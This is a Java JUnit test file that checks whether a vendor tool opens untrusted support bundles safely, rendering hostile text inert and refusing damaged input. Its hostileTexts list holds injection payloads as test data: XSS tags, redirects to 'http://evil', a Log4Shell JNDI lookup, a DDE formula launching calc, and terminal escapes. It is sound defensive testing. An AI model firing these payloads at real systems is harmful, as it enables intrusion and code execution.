package dev.holdfast.vendor.support;

import static org.assertj.core.api.Assertions.assertThat;

import dev.holdfast.license.key.SigningKey;
import dev.holdfast.license.statement.Suite;
import dev.holdfast.license.support.SupportBundle;
import dev.holdfast.license.support.SupportKey;
import dev.holdfast.vendor.Session;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * T46: whoever has the support key's public half can send a bundle, and so whatever is in one is a
 * stranger's: the receipt's words, the files' names and contents, the wrapped key itself.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@SuppressWarnings("NullAway.Init") // set before all
class HostileBundlesTest {
  private static final String ID = "sup_01h455vb4pex5vsknk084sn02q";
  private static final SigningKey INSTALLATION = SigningKey.generate(Suite.V2026_1);

  private Path folder;
  private Session session;
  private SupportKey key;
  private int number;

  @BeforeAll
  void makeAKey(@TempDir Path root) throws IOException {
    folder = root;
    session = new Session(folder.resolve("none"));
    Files.writeString(folder.resolve("pass"), "a passphrase for support\n");
    assertThat(run("support", "key").code()).isZero();
    key = SupportKey.parse(Files.readString(folder.resolve("support/support.key")));
  }

  private Session.Answer run(String... args) {
    return session.run(
        Stream.concat(
                Stream.of(args),
                Stream.of(
                    "--support-key",
                    folder.resolve("support").toString(),
                    "--passphrase-file",
                    folder.resolve("pass").toString()))
            .toArray(String[]::new));
  }

  private SupportBundle.Receipt receipt(Map<String, byte[]> files, Map<String, Long> redactions) {
    return new SupportBundle.Receipt(
        "holdfast", "ins_1", ID, session.now(), "1.0.0", SupportBundle.digests(files), redactions);
  }

  private Path sealed(SupportBundle.Receipt receipt, Map<String, byte[]> files) throws IOException {
    return sealed(receipt, files, SupportKey.SUITE, SupportBundle.VENDOR, true);
  }

  private Path sealed(
      SupportBundle.Receipt receipt,
      Map<String, byte[]> files,
      String suite,
      String kind,
      boolean real)
      throws IOException {
    String context = SupportBundle.context(ID, session.now());
    byte[] bytes =
        SupportBundle.seal(
            ID,
            session.now(),
            receipt.sign(INSTALLATION),
            files,
            List.of(
                new SupportBundle.To(
                    kind,
                    key.id(),
                    suite,
                    secret -> key.wrap(real ? secret : new byte[0], context))));
    return Files.write(folder.resolve("bundle-" + ++number), bytes);
  }

  private Path sealed(Map<String, String> texts) throws IOException {
    Map<String, byte[]> files = new TreeMap<>();
    texts.forEach((name, text) -> files.put(name, text.getBytes(StandardCharsets.UTF_8)));
    return sealed(receipt(files, Map.of()), files);
  }

  private Session.Answer open(Path bundle, String... more) {
    String[] fixed = {"support", "open", bundle.toString(), "--out", out().toString()};
    return run(Stream.concat(Stream.of(fixed), Stream.of(more)).toArray(String[]::new));
  }

  private Path out() {
    return folder.resolve("out-" + number);
  }

  private Session.Answer opened(Path bundle) {
    Session.Answer answer = open(bundle);
    assertThat(answer.code()).as(answer.err()).isZero();
    return answer;
  }

  private String page() throws IOException {
    return Files.readString(out().resolve("report.html"));
  }

  static Stream<String> hostileTexts() {
    return Stream.of(
        "</pre><script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<!--", // a comment would swallow the rest of the page
        "]]><x",
        "&lt;script&gt;alert(1)",
        "&#60;script&#62;",
        "\"><iframe src=http://evil>",
        "' style='position:fixed",
        "<base href=http://evil>",
        "<meta http-equiv=refresh content=0;url=http://evil>",
        "\u001b]8;;http://evil\u0007click\u001b]8;;\u0007",
        "\u001b[2J\u001b[H\u009b31m",
        "\u202egpj.exe",
        "\u2066a\u2069\u200f",
        "a\u0000b",
        "a\r\nb\rc",
        "\u2028\u2029\u0085",
        "\ud800",
        "\udc00\ud800",
        "\ue000\uffff\ufeff",
        "=cmd|'/C calc'!A0",
        "\uff1dHYPERLINK(1)",
        "\t=1+1",
        "@SUM(1)",
        "%s%n%x%99999999d",
        "${jndi:ldap://evil/a}",
        "x".repeat(30_000));
  }

  @ParameterizedTest
  @MethodSource("hostileTexts")
  void open_hostileText_isInertWhereverItStands(String text) throws IOException {
    String oneLine = text.replaceAll("[\r\n]", " ");
    Path bundle =
        sealed(
            Map.of(
                "facts.txt",
                "doctor.failed=" + oneLine + "\nversion=" + oneLine + "\n" + oneLine + "=1\n",
                "logs/1.log",
                "2026-06-01T00:00:00Z ERROR dev.holdfast.A: " + text + "\n" + text));

    Session.Answer answer = opened(bundle);

    assertInert(answer.out());
    String page = page();
    assertInert(page);
    // Every tag of the page is one that this program wrote.
    assertThat(page.split("<", -1))
        .allMatch(
            part ->
                part.matches(
                    "(?s)(!doctype|/?(html|meta|title|style|h1|h2|p|pre|table|tr|td|ul|li))?"
                        + "[ >\n].*|"));
    assertThat(page).endsWith("</html>\n").contains("<h2>logs/1.log</h2>");
    assertThat(Files.readString(out().resolve("facts.csv")).lines())
        .allMatch(line -> line.matches("\"[^=+@\\-\uff1d].*"))
        .allMatch(line -> line.endsWith("\""));
    number++;
    Session.Answer json = open(bundle, "--json");
    assertThat(json.code()).as(json.err()).isZero();
    assertInert(json.out());
    assertIsJson(json.out());
  }

  private static void assertIsJson(String text) {
    // Written by us, of a stranger's words: any reader must find one object in it.
    try (var parser = new com.fasterxml.jackson.core.JsonFactory().createParser(text.strip())) {
      int depth = 0;
      for (var token = parser.nextToken(); token != null; token = parser.nextToken()) {
        depth += token.isStructStart() ? 1 : token.isStructEnd() ? -1 : 0;
      }
      assertThat(depth).isZero();
    } catch (IOException e) {
      throw new AssertionError(text, e);
    }
  }

  /** The words of a finding are cut; half a character is none, and no JSON has it. */
  @ParameterizedTest
  @ValueSource(ints = {157, 158, 159, 160, 161})
  void open_wordsCutWithinACharacter_areWhole(int before) throws IOException {
    Path bundle =
        sealed(Map.of("facts.txt", "doctor.failed=" + "x".repeat(before) + "\ud83d\ude00yy\n"));
    Session.Answer json = open(bundle, "--json");
    assertThat(json.code()).as(json.err()).isZero();
    assertIsJson(json.out());
    assertThat(json.out()).contains("These checks fail: xx");
  }

  private static void assertInert(String text) {
    assertThat(
            text.codePoints()
                .filter(point -> point != '\n' && point != '\t' && point != '\r')
                .filter(
                    point ->
                        Character.isISOControl(point)
                            || Character.getType(point) == Character.FORMAT
                            || Character.getType(point) == Character.SURROGATE
                            || Character.getType(point) == Character.PRIVATE_USE))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"<b>", "\u202eabc", "\u001b[2J", "a\nb", "", "x\u0000"})
  void open_receiptWithHostileWords_isRefusedOrInert(String words) throws IOException {
    Map<String, byte[]> files = Map.of("facts.txt", new byte[0]);
    SupportBundle.Receipt receipt =
        new SupportBundle.Receipt(
            "holdfast",
            "ins_1",
            ID,
            session.now(),
            words,
            SupportBundle.digests(files),
            Map.of("rule " + words, 1L));

    Session.Answer answer = open(sealed(receipt, files));

    assertThat(answer.code()).isIn(0, 3);
    assertInert(answer.out() + answer.err());
    if (answer.code() == 0) {
      assertInert(page());
      assertThat(page()).doesNotContain("<b>");
    } else {
      assertThat(out()).doesNotExist();
    }
  }

  @Test
  void open_manyRedactionsAndFiles_areAllShown() throws IOException {
    Map<String, byte[]> files = new TreeMap<>();
    Map<String, Long> redactions = new TreeMap<>();
    for (int i = 0; i < 200; i++) {
      files.put("logs/" + i + ".log", ("line " + i).getBytes(StandardCharsets.UTF_8));
      redactions.put("rule-" + i, (long) i);
    }
    opened(sealed(receipt(files, redactions), files));
    assertThat(page()).contains("<td>rule-199</td><td>199</td>", "file-200.txt", "line 0");
    try (Stream<Path> written = Files.list(out())) {
      assertThat(written).hasSize(202);
    }
  }

  @Test
  void open_fileLongerThanThePageHasRoomFor_isCutThereAndWholeBeside() throws IOException {
    // The cut goes through a pair of surrogates, half of which is no text.
    String text = "x".repeat(199_999) + "\ud83d\ude00 the end";
    opened(sealed(Map.of("logs/1.log", text)));
    assertThat(page()).contains("(cut here; the file is whole)").doesNotContain("the end");
    assertInert(page());
    assertThat(out().resolve("file-001.txt")).content().endsWith("\ud83d\ude00 the end");
  }

  @Test
  void open_bytesThatAreNoText_areShownWithoutHarm() throws IOException {
    byte[] all = new byte[256];
    for (int i = 0; i < all.length; i++) {
      all[i] = (byte) i;
    }
    Map<String, byte[]> files = Map.of("logs/1.log", all, "facts.txt", all);
    opened(sealed(receipt(files, Map.of()), files));
    assertInert(page());
  }

  @Test
  void open_filesOfABundle_areTheirOwnersOnly() throws IOException {
    opened(sealed(Map.of("facts.txt", "a=1\n")));
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out())))
        .isEqualTo("rwx------");
    try (Stream<Path> written = Files.list(out())) {
      assertThat(written).allMatch(file -> mode(file).equals("rw-------")).hasSize(3);
    }
  }

  private static String mode(Path file) {
    try {
      return PosixFilePermissions.toString(Files.getPosixFilePermissions(file));
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  /** The sender chooses the content key, too. */
  @Test
  void open_contentKeyOfNoLength_isRefusedAndNoFault() throws IOException {
    Map<String, byte[]> files = Map.of("facts.txt", new byte[0]);
    Session.Answer answer =
        open(
            sealed(receipt(files, Map.of()), files, SupportKey.SUITE, SupportBundle.VENDOR, false));
    assertThat(answer.code()).as(answer.err()).isEqualTo(3);
    assertThat(out()).doesNotExist();
  }

  @ParameterizedTest
  @CsvSource({
    "x25519-mlkem1024-hkdf-sha384-aes256gcm, customer, 4, not encrypted for the key",
    "x25519-mlkem1024-hkdf-sha384-aes256gcm, Vendor, 4, not encrypted for the key",
    "x25519, vendor, 3, needs a newer holdfast-vendor",
    "none, vendor, 3, needs a newer holdfast-vendor"
  })
  void open_recipientOfAnotherKindOrSuite_isToldApart(
      String suite, String kind, int code, String words) throws IOException {
    Map<String, byte[]> files = Map.of("facts.txt", new byte[0]);
    Session.Answer answer = open(sealed(receipt(files, Map.of()), files, suite, kind, true));
    assertThat(answer.code()).as(answer.err()).isEqualTo(code);
    assertThat(answer.err()).contains(words);
  }

  @Test
  void open_cutAnywhere_isRefusedAndNothingIsWritten() throws IOException {
    byte[] whole = Files.readAllBytes(sealed(Map.of("facts.txt", "a=1\n")));
    for (int length = 0; length < whole.length; length += 1_031) {
      Path cut =
          Files.write(folder.resolve("bundle-" + ++number), java.util.Arrays.copyOf(whole, length));
      Session.Answer answer = open(cut);
      assertThat(answer.code()).as("%d: %s", length, answer.err()).isBetween(3, 4);
      assertThat(out()).doesNotExist();
    }
  }

  @Test
  void open_largerThanABundleMayBe_isNotRead() throws IOException {
    Path large = folder.resolve("bundle-" + ++number);
    try (var channel =
        java.nio.channels.FileChannel.open(
            large,
            java.nio.file.StandardOpenOption.CREATE_NEW,
            java.nio.file.StandardOpenOption.WRITE)) {
      channel.write(java.nio.ByteBuffer.wrap(new byte[1]), SupportBundle.MOST);
    }
    Session.Answer answer = open(large);
    assertThat(answer.code()).isEqualTo(3);
    assertThat(answer.err()).contains("larger than a support bundle may be");
  }

  @Test
  void open_outThatIsThereInAnyForm_isRefusedAndStays() throws IOException {
    Path bundle = sealed(Map.of("facts.txt", "a=1\n"));
    Files.createSymbolicLink(out(), folder.resolve("somewhere"));
    assertThat(open(bundle).code()).isEqualTo(5);
    assertThat(folder.resolve("somewhere")).doesNotExist();
    Files.delete(out());
    Files.writeString(out(), "a file");
    assertThat(open(bundle).code()).isEqualTo(5);
    assertThat(out()).hasContent("a file");
    Files.delete(out());
    Files.createDirectory(out());
    assertThat(open(bundle).code()).isEqualTo(5);
    assertThat(out()).isEmptyDirectory();
  }

  @ParameterizedTest
  @ValueSource(strings = {"empty", "cut", "one-key", "no-base64", "note", "public-other"})
  void open_supportKeyThatWasDamaged_isSaidAndNoFault(String how) throws IOException {
    Path bundle = sealed(Map.of("facts.txt", "a=1\n"));
    Path damaged = Files.createDirectory(folder.resolve("support-" + how));
    String pem = Files.readString(folder.resolve("support/support.pem"));
    String text = Files.readString(folder.resolve("support/support.key"));
    int second = pem.lastIndexOf("-----BEGIN");
    Files.writeString(
        damaged.resolve("support.pem"),
        switch (how) {
          case "empty" -> "";
          case "cut" -> pem.substring(0, second + 200);
          case "one-key" -> pem.substring(0, second);
          case "no-base64" -> pem.replaceFirst("(?s)(KEY-----\n.)...", "$1*?%");
          case "note" -> "a note\n";
          default -> pem;
        });
    Files.writeString(
        damaged.resolve("support.key"),
        how.equals("public-other") ? SupportKey.generate().key().text() : text);
    Session.Answer answer =
        session.run(
            "support",
            "open",
            bundle.toString(),
            "--out",
            out().toString(),
            "--support-key",
            damaged.toString(),
            "--passphrase-file",
            folder.resolve("pass").toString());
    assertThat(answer.code()).as(answer.err()).isBetween(3, 5);
    assertThat(answer.err()).doesNotContain("a fault in holdfast-vendor");
    assertThat(out()).doesNotExist();
  }

  private String diff(Map<String, String> before, Map<String, String> after) throws IOException {
    Session.Answer answer =
        run("support", "diff", sealed(before).toString(), sealed(after).toString());
    assertThat(answer.code()).as(answer.err()).isZero();
    return answer.out();
  }

  private String diff(String before, String after) throws IOException {
    return diff(Map.of("facts.txt", before), Map.of("facts.txt", after));
  }

  @Test
  void diff_warningThatBecameAFailure_cameAndWent() throws IOException {
    String worse = diff("disk.free.mib=500\n", "disk.free.mib=20\n");
    assertThat(worse)
        .contains("disk.free.mib: 500 -> 20")
        .contains("came: fail  The disk is nearly full: 20 MiB are free.")
        .contains("went: warn  The disk has only 500 MiB free.");
    assertThat(diff("disk.free.mib=20\n", "disk.free.mib=20\n")).isEmpty();
    assertThat(diff("disk.free.mib=21\n", "disk.free.mib=20\n"))
        .contains("disk.free.mib: 21 -> 20")
        .doesNotContain("came", "went");
  }

  @ParameterizedTest
  @CsvSource({
    "'', '', ''",
    "'a=1', 'a=1', ''",
    "'a=1', '', 'a: 1 -> '",
    "'', 'a=1', 'a:  -> 1'",
    "'a=1', 'a=', 'a: 1 -> '",
    "'a=', '', ''",
    "'a=1=2', 'a=1=3', 'a: 1=2 -> 1=3'",
    "'=1', '=2', ''",
    "'a', 'b', ''"
  })
  void diff_factsThatDiffer_areNamedOnce(String before, String after, String said)
      throws IOException {
    assertThat(diff(before + "\n", after + "\n").strip()).isEqualTo(said.strip());
  }

  /** Every hostile text as a fact of its own, before and after. */
  private static String hostileFacts(String value) {
    StringBuilder facts = new StringBuilder("health=" + value + "\n");
    hostileTexts()
        .map(text -> text.replaceAll("[\r\n]", " "))
        .forEach(text -> facts.append(text).append("=1\nafter-").append(text).append('\n'));
    hostileTexts()
        .map(text -> text.replaceAll("[\r\n]", " "))
        .forEach(
            text ->
                facts.append("a").append(text.hashCode()).append('=').append(text).append('\n'));
    return facts.toString();
  }

  @Test
  void diff_hostileFacts_areInert() throws IOException {
    assertInert(diff("health=UP\n", hostileFacts("DOWN")));
    assertInert(diff(hostileFacts("DOWN"), "health=UP\n"));
  }

  @Test
  void diff_hostileFactsAsJson_areInert() throws IOException {
    Path before = sealed(Map.of("facts.txt", "health=UP\n"));
    Path after = sealed(Map.of("facts.txt", hostileFacts("DOWN")));
    Session.Answer answer = run("support", "diff", before.toString(), after.toString(), "--json");
    assertThat(answer.code()).as(answer.err()).isZero();
    assertInert(answer.out());
    assertIsJson(answer.out());
    assertThat(answer.out()).contains("\"health\"", "A health probe is down");
  }

  @Test
  void diff_noFactsAtAll_saysNothing() throws IOException {
    assertThat(diff(Map.of("logs/1.log", "a"), Map.of("logs/1.log", "b"))).isEmpty();
  }
}
